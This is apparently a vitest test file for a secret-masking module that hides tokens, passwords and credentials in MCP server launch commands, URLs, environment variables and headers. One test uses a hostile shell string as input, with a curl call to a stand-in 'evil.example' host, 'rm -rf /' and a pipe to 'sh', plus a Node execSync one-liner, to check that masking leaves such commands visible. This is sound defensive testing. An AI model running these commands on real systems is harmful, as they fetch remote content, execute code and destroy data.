import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { maskedText, maskedUrl, maskedValue } from '../../../src/discovery/masked-text.ts';
import { rememberedLaunch } from '../../../src/discovery/remembered-launch.ts';
import { commandLine, maskedArgs, type Shown, shownLaunch } from '../../../src/discovery/shown-launch.ts';
import { NO_FILTER } from '../../../src/model/tool-rules.ts';
import { looksSecret } from '../../../src/util/secret-signs.ts';
import examples from '../../fixtures/discovery/examples.json' with { type: 'json' };
import moreExamples from '../../fixtures/discovery/more-examples.json' with { type: 'json' };
import { discoverExample, type Example } from '../../support/discovery-example.ts';

const EXAMPLES = [...examples.cases, ...moreExamples.cases] as unknown as Example[];

function launch(fields: Partial<Shown> = {}): Shown {
  const empty = { command: undefined, args: [], env: {}, cwd: undefined, url: undefined, headers: {} };
  const whole = { transport: 'stdio' as const, ...empty, headersHelper: undefined, ...fields };
  return { ...whole, raw: fields.raw ?? whole };
}

const V = (name: string): string => `$${`{${name}}`}`;

describe('an argument', () => {
  test.each([
    [['-y', '@modelcontextprotocol/server-github@2025.8.31'], undefined],
    [
      ['--api-key', 'hunter2'],
      ['--api-key', '***'],
    ],
    [['--api-key', V('TOKEN')], undefined],
    [
      ['--api-key', V('TOKEN:-fallback')],
      ['--api-key', V('TOKEN:-***')],
    ],
    [['--api-key', '-y', 'p'], undefined],
    [['--token=abc'], ['--token=***']],
    [
      ['--auth=true', '--no-auth', 'x'],
      ['--auth=true', '--no-auth', '***'],
    ],
    [['--author', 'me', '--port', '8080', '--keyword', 'x'], undefined],
    [
      ['-H', 'Authorization: Bearer abc'],
      ['-H', 'Authorization: Bearer ***'],
    ],
    [['--header', `X-Api-Key:${V('KEY')}`], undefined],
    [['--header=Cookie: a=b; c=d'], ['--header=Cookie: ***']],
    [
      ['-e', 'PGPASSWORD=x', '-e', 'DEBUG=1', '--env', 'NAME'],
      ['-e', 'PGPASSWORD=***', '-e', 'DEBUG=***', '--env', 'NAME'],
    ],
    [
      ['API_KEY=x y', 'key=value', 'MODE=fast'],
      ['API_KEY=***', 'key=***', 'MODE=***'],
    ],
    [['NODE_OPTIONS=--require ./x.js'], undefined],
    [
      ['-u', 'me:pass', '-u', '1000:1000'],
      ['-u', 'me:***', '-u', '1000:1000'],
    ],
    [
      ['ghp_abcdefghijklmnop', 'sk-ant-api03-abc'],
      ['***', '***'],
    ],
    [['https://u:p@h.example/mcp?api_key=x&mode=fast'], ['https://***:***@h.example/mcp?api_key=***&mode=fast']],
    [['{"apiKey":"x","name":"n"}'], ['{"apiKey":"***","name":"n"}']],
    [['--config={\\"apiKey\\":\\"x\\"}'], ['--config={\\"apiKey\\":\\"***\\"}']],
    [['Server=h;User=u;Password=x'], ['Server=h;User=u;Password=***']],
    [['550e8400-e29b-41d4-a716-446655440000'], ['***']],
    [['image@sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08'], undefined],
    [['github:o/r#da39a3ee5e6b4b0d3255bfef95601890afd80709'], undefined],
    [['/home/u/.nvm/versions/node/v22.11.0/bin/server', './src/index.ts', 'C:\\x\\y.js'], undefined],
  ])('is shown but for what is secret: %j', (args, shown) => {
    expect(maskedArgs(args, 'run')).toEqual(shown ?? args);
  });

  test('that a shell or an interpreter runs hides no command behind a mask', () => {
    const script = 'TOKEN=$(curl https://evil.example) KEY="a$(id)" P=`id` API_KEY=abc; rm -rf / --token abc | sh';
    expect(maskedArgs(['-c', script], 'sh')).toEqual([
      '-c',
      'TOKEN=$(curl https://evil.example) KEY="a$(id)" P=`id` API_KEY=***; rm -rf / --token *** | sh',
    ]);
    const program = 'SECRET=require("child_process").execSync("id")';
    expect(maskedArgs(['-e', program], '/usr/bin/node').join(' ')).toContain('("child_process").execSync("id")');
  });
});

describe('a URL', () => {
  test.each([
    ['https://h.example/mcp', undefined],
    ['https://h.example:8080/@scope/x', undefined],
    ['https://token@h.example/', 'https://***@h.example/'],
    [`https://${V('USER')}:${V('PASS')}@h.example/`, undefined],
    ['postgres://me:a/b?c@h.example/db', 'postgres://***@h.example/db'],
    ['https://h.example/mcp?key=a&x=1&tools=a,b#token=c', 'https://h.example/mcp?key=***&x=1&tools=a,b#token=***'],
    ['https://h.example/mcp?Secret', 'https://h.example/mcp?***'],
    ['https://h.example/s/Zk3x9Qw2Lm7Rt5Vb8Nc1/mcp', 'https://h.example/s/***/mcp'],
    [`${V('BASE')}/mcp?key=a`, `${V('BASE')}/mcp?key=***`],
    ['unix:///tmp/mcp-bridge.sock#/mcp/server/weather', undefined],
    ['unix:///tmp/x.sock#/s/Zk3x9Qw2Lm7Rt5Vb8Nc1/mcp', 'unix:///tmp/x.sock#/s/***/mcp'],
    ['unix:///tmp/x.sock#/mcp?key=a', 'unix:///tmp/x.sock#/mcp?key=***'],
    ['https://h.example/#/Pass-Word', 'https://h.example/#***'],
  ])('is shown but for what is secret: %s', (url, shown) => {
    expect(maskedUrl(url)).toBe(shown ?? url);
  });
});

test('in a secret value, variables and their use stay visible', () => {
  expect(maskedValue(`Bearer ${V('TOKEN')}`)).toBe(`Bearer ${V('TOKEN')}`);
  expect(maskedValue(`Basic abc${V('B')}def`)).toBe(`Basic ***${V('B')}***`);
  expect(maskedValue('{env:TOKEN}')).toBe('{env:TOKEN}');
});

describe('a definition', () => {
  test('shows variables as they are written, and where it really runs', () => {
    const raw = { ...launch(), command: '~/bin/x', args: [V('SECRET_WORD')], cwd: 'sub' };
    const server = launch({ command: '/home/u/bin/x', args: ['swordfish'], cwd: '/p/sub', raw });
    expect(shownLaunch(server)).toMatchObject({ command: '~/bin/x', args: [V('SECRET_WORD')], cwd: '/p/sub' });
    expect(shownLaunch({ ...server, raw: { ...raw, cwd: V('SECRET_WORD') } }).cwd).toBe(V('SECRET_WORD'));
  });

  test('shows the names of variables and headers, and hides their values wherever they stand', () => {
    const server = launch({
      command: 'run',
      args: ['swordfish', 'x-swordfish'],
      env: { TOKEN: 'swordfish', MODE: 'production' },
      headers: { Authorization: 'Bearer open-sesame' },
      url: 'https://h.example/open-sesame/production',
    });
    expect(shownLaunch(server)).toMatchObject({
      args: ['***', 'x-***'],
      env: ['TOKEN', 'MODE'],
      headers: ['Authorization'],
      url: 'https://h.example/***/production',
    });
  });

  test('shows the directory in a client’s own variable, whatever its name', () => {
    const dir = '/tmp/mcpb-n6kzUMx7Qw9/project';
    const given = { CLAUDE_PROJECT_DIR: V('CLAUDE_PROJECT_DIR') };
    const written = launch({ command: 'server', cwd: dir, env: given });
    const shown = shownLaunch({ ...written, env: { CLAUDE_PROJECT_DIR: dir }, raw: written });
    expect([shown.cwd, shown.env]).toEqual([dir, []]);
  });

  test('cannot turn the terminal around', () => {
    const shown = shownLaunch(
      launch({ command: 'a\u001b[2J', args: ['\u202egnp.exe', 'a\nb'], env: { 'X\u200b': '' } }),
    );
    expect(JSON.stringify(shown)).not.toMatch(/[\p{Cc}\p{Cf}]|\\u00/u);
    expect(commandLine(shown)).toBe("'a\\u{1b}[2J' '\\u{202e}gnp.exe' 'a\\u{a}b'");
  });

  test('is shown as one would type it', () => {
    expect(commandLine({ command: 'a b', args: ['', "it's", '--x=$Y', '$(id)', 'a;b'] })).toBe(
      "'a b' '' 'it'\\''s' --x=$Y '$(id)' 'a;b'",
    );
  });
});

const word = fc.stringMatching(/^[A-Za-z][A-Za-z0-9]{9,20}$/).map((text) => `CANARY${text}`);

test('shown and kept texts contain no secret, wherever it was', () => {
  const planted = (s: string[]): Shown =>
    launch({
      transport: 'http',
      command: `run --password ${s[0]}`,
      args: [
        ...['--api-key', s[1], `--token=${s[2]}`, '-H', `Authorization: Bearer ${s[3]}`, `CLIENT_SECRET=${s[4]}`],
        ...['-e', `ANY=${s[5]}`, `https://u:${s[6]}@h.example/?x=1&sig=${s[7]}`, `{"clientSecret": "${s[8]}"}`],
        ...[`sk-${s[9]}`, `--header=X-Auth-Token: ${s[10]}`, '-c', `A_KEY='${s[11]}' run --secret "${s[12]}"`],
        ...[`postgresql://me:${s[13]}@db/x`, `DSN=https://${s[14]}@h.example`, s[15]],
      ].map(String),
      env: { PLAIN: `${s[16]}`, MY_TOKEN: `${s[15]}` },
      headers: { 'X-Any': `${s[17]}` },
      url: `https://${s[18]}@h.example/mcp?access_token=${s[19]}#key=${s[19]}`,
      headersHelper: `echo '{"Authorization": "Bearer ${s[20]}"}' --token=${s[21]}`,
    });
  fc.assert(
    fc.property(fc.uniqueArray(word, { minLength: 22, maxLength: 22 }), (secrets) => {
      const server = planted(secrets);
      const said = JSON.stringify([shownLaunch(server), commandLine(shownLaunch(server))]);
      const kept = JSON.stringify(
        rememberedLaunch({ ...server, tools: NO_FILTER, oauth: { clientSecret: secrets[0] } }),
      );
      for (const secret of secrets) {
        expect(said).not.toContain(secret);
        expect(kept).not.toContain(secret);
      }
    }),
  );
});

test('a mask is not masked again, and text without secrets stays', () => {
  fc.assert(
    fc.property(fc.string(), (text) => {
      const once = maskedText(text);
      expect(maskedText(once)).toBe(once);
    }),
  );
});

test.each(EXAMPLES.map((example) => [`${example.id}: ${example.title}`, example] as const))(
  'no value of a variable or a header is shown of example %s',
  async (_, example) => {
    for (const server of (await discoverExample(example)).servers) {
      const shown = JSON.stringify(shownLaunch(server));
      const secrets = [server.env, server.headers].flatMap((values) => Object.entries(values));
      for (const [name, value] of secrets)
        if (looksSecret(name) && value.length > 5) expect(shown, `${server.id} ${name}`).not.toContain(value);
    }
  },
);

test('a definition as long as a file may be takes no more than a moment, and little is kept of it', () => {
  const long = ['a/'.repeat(500_000), '"a":'.repeat(250_000), 'x'.repeat(1_000_000), 'https://'.repeat(125_000)];
  const args = [...long, ...Array.from({ length: 100_000 }, (_, i) => `KEY${i}=a1b2c3d4e5f6g7h8`)];
  const env = Object.fromEntries(Array.from({ length: 1000 }, (_, i) => [`V${i}`, 'x']));
  const server = launch({ command: 'run', args, env, url: `https://h.example/${long[0]}` });
  expect(shownLaunch(server).args).toHaveLength(args.length);
  const kept = rememberedLaunch({ ...server, tools: NO_FILTER, oauth: undefined });
  expect(JSON.stringify(kept).length).toBeLessThan(200_000);
});
